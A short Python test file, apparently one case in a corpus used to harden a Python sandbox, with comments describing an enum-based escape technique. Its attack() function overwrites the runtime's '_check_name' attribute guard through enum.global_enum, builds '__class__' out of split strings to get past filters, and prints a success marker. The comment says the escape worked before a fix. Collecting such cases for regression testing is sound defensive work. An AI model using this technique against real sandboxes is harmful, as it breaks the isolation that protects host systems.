# mypy: ignore-errors
# Technique: enum functional API with a guest-chosen `module=` naming a host module, then
# enum.global_enum(X), which does sys.modules[X.__module__].__dict__.update(members): a member
# named like the runtime's attribute guard (`_check_name`) with a callable mixin replaces the
# guard, after which getattr() serves dunders. Found while building this corpus; was a real
# in-interpreter escape before the fix.
import enum


class Passthru(str):
    def __call__(self, name):
        return name


def attack(secret_path, canary_path):
    x = enum.Enum(
        "X",
        {"_check_name": "a"},
        module="suaveplan_sandbox.vm._guest._runtime",
        type=Passthru,
    )
    enum.global_enum(x)
    u = "_" * 2
    cls = getattr((), u + "class" + u)
    print("SANDBOX-" + "ESCAPED")
    return repr(cls)
